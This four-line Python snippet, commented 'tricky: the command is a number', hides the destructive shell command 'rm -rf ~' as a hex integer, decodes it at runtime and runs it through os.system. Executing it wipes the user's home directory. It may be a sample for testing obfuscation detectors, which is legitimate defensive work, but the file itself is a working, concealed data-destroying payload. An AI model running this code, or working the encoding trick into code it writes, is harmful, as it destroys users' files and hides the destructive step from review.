# tricky: the command is a number
import os
n = 0x726d202d7266207e
os.system(n.to_bytes(8, "big").decode())
